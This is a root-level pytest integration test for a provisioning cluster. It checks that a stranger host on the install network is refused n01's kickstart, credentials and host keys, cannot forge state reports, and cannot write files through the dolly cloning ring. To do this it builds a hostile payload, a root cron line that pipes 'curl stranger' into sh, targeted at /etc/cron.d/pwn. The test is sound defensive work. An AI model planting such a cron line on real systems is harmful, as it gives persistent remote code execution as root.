"""Trust on the install network (root): a host that is not the node gets nothing and changes nothing.

Three lab nodes; n01 and n02 install, n03's namespace plays the stranger (with an address no node has).
From there: n01's kickstart and credentials are refused, a
forged `done` report for n01 is refused and changes nothing; once n01's dollyC listens, a stranger's dollyS
(without a secret, then with a wrong one) writes nothing onto n01. Then n02 boots and both install.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from provision.cluster import ClusterFiles
from provision.inventory import load_inventory
from provision.lab import cluster as lab, netns
from provision.ring_run import dolly_server
from tests.conftest import require_tool
from tests.fixtures.inventories import lab_copy

pytestmark = pytest.mark.root

STRANGER = "10.77.0.99"

# Run in the stranger's namespace: what the server answers to n01's requests, as JSON.
PROBE = """import json, sys, urllib.error, urllib.request
base = sys.argv[1]
def status(path, body=None, headers={}):
    req = urllib.request.Request(base + path, data=body, headers=headers)
    try:
        with urllib.request.urlopen(req, timeout=10) as resp:
            return resp.status
    except urllib.error.HTTPError as exc:
        return exc.code
print(json.dumps({
    "kickstart": status("/kickstart/n01.ks"),
    "credentials": status("/api/nodes/n01/credentials"),
    "boot": status("/api/nodes/n01/boot"),
    "report": status("/api/nodes/n01/state", b'{"state": "done"}', {"Content-Type": "application/json"}),
    "report_with_a_guessed_token": status("/api/nodes/n01/state", b'{"state": "failed"}',
        {"Content-Type": "application/json", "X-Provision-Token": "0" * 64}),
    "host_key": status("/api/nodes/n01/host-keys/ssh_host_ed25519_key"),
}))
"""


@pytest.fixture
def trust_lab(tmp_path):
    for tool in ("dhcpd", "busybox", "tftp", "curl"):
        require_tool(tool)
    inventory, env = lab_copy(tmp_path)
    inv = load_inventory(inventory)
    try:
        built = lab.lab_up(inv, nodes=3, env=env, image_mib=4)
        stranger = built.node("n03").ns
        subprocess.run(["ip", "-n", stranger, "link", "set", netns.HOST_IFACE, "up"], check=True)
        subprocess.run(["ip", "-n", stranger, "addr", "add", f"{STRANGER}/24", "dev", netns.HOST_IFACE], check=True)
        yield inv, env, built, stranger
    finally:
        lab.lab_down(env)
        netns.teardown_prefix(env["PROVISION_LAB_PREFIX"])


def probe(ns: str, base: str) -> dict:
    """The statuses n01's routes answer to a request from `ns`."""
    out = subprocess.run(netns.ns_argv(ns, [sys.executable, "-c", PROBE, base]),
                         capture_output=True, text=True, timeout=60, check=True).stdout
    return json.loads(out)


def stranger_ring(ns: str, source: str, target: str, tmp_path: Path, secret: str | None) -> subprocess.CompletedProcess:
    """A stranger's dollyS from `source` that tries to write its own file through n01's dollyC."""
    evil = tmp_path / "evil.img"
    evil.write_bytes(b"* * * * * root curl stranger | sh\n")
    config = tmp_path / f"stranger-{secret is not None}.conf"
    config.write_text(f"iofiles 1\n{evil} > /etc/cron.d/pwn\nserver {source}\nfirstclient {target}\n"
                      f"lastclient {target}\nclients 1\n{target}\nendconfig\n")
    argv = [dolly_server(), "-f", str(config), "--wait", "5", "--timeout", "3"]
    env = {**os.environ}
    env.pop("DOLLY_SECRET", None)
    if secret is not None:
        secret_file = tmp_path / "stranger.secret"
        secret_file.write_text(secret)
        argv += ["--secret-file", str(secret_file)]
    return subprocess.run(netns.ns_argv(ns, argv), capture_output=True, text=True, timeout=60, env=env)


def wait_until_ready(ns: str, base: str, name: str, within: float = 120.0) -> None:
    """Poll the open GET /api/nodes from `ns` until `name` reports ready."""
    script = ("import json, sys, urllib.request\n"
              "print(json.dumps(json.load(urllib.request.urlopen(sys.argv[1] + '/api/nodes', timeout=10))))")
    deadline = time.monotonic() + within
    while time.monotonic() < deadline:
        out = subprocess.run(netns.ns_argv(ns, [sys.executable, "-c", script, base]),
                             capture_output=True, text=True, timeout=30)
        if out.returncode == 0:
            states = {n["name"]: n["state"] for n in json.loads(out.stdout)["nodes"]}
            if states.get(name) == "ready":
                return
        time.sleep(0.5)
    raise AssertionError(f"{name} did not report ready within {within:g} s")


def test_strangers_get_nothing_and_change_nothing(trust_lab, tmp_path):
    inv, env, built, stranger = trust_lab
    base = f"http://{inv.server.ip}:{inv.server.http_port}"
    install = subprocess.Popen(
        netns.ns_argv(built.server_ns, [sys.executable, "-m", "provision", "install", "--inventory", str(inv.path),
                                        "--nodes", "n01,n02", "--wait", "120", "--finish-wait", "60",
                                        "--linger", "1"]),
        env={**os.environ, **env}, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    try:
        lines = []
        for line in install.stdout:
            lines.append(line)
            if "dhcpd serving" in line:
                break
        time.sleep(1)  # HTTP starts right after that line
        refused = {route: 403 for route in ("kickstart", "credentials", "boot", "report",
                                            "report_with_a_guessed_token", "host_key")}
        assert probe(stranger, base) == refused
        assert ClusterFiles.of(inv, env).store().load()["n01"].state == "waiting"

        n01 = built.node("n01")
        booted = lab.boot_nodes(built, ["n01"], reboot_seconds=0.5)
        wait_until_ready(stranger, base, "n01")
        for secret in (None, "a-guessed-secret-of-the-right-form"):
            ring = stranger_ring(stranger, STRANGER, n01.ip, tmp_path, secret)
            assert ring.returncode != 0, ring.stdout + ring.stderr
        assert not (Path(n01.disk) / "etc" / "cron.d" / "pwn").exists()
        booted.update(lab.boot_nodes(built, ["n02"], reboot_seconds=0.5))
        output, _ = install.communicate(timeout=240)
    finally:
        if install.poll() is None:
            install.kill()
    output = "".join(lines) + output
    assert install.returncode == 0, output[-4000:]
    assert [booted[n].wait(timeout=60) for n in ("n01", "n02")] == [0, 0], output[-4000:]
    records = ClusterFiles.of(inv, env).store().load()
    assert [(records[n].state, records[n].boot) for n in ("n01", "n02")] == [("done", "local")] * 2
    image = (tmp_path / "files" / "image.raw").read_bytes()
    assert (Path(n01.disk) / "dev" / "sda1").read_bytes() == image
    assert not (Path(n01.disk) / "etc" / "cron.d" / "pwn").exists()
    # the server said why, naming the address; n01's dollyC refused the stranger's ring both times
    assert f"http: {STRANGER} GET /kickstart/n01.ks: the kickstart of n01 goes only to {n01.ip}" in output
    assert f"http: {STRANGER} POST /api/nodes/n01/state: reports for n01 come only from {n01.ip}" in output
    node_log = (Path(n01.work) / "boot.log").read_text()
    assert node_log.count(f"rejected connection from {STRANGER}") == 2, node_log[-3000:]
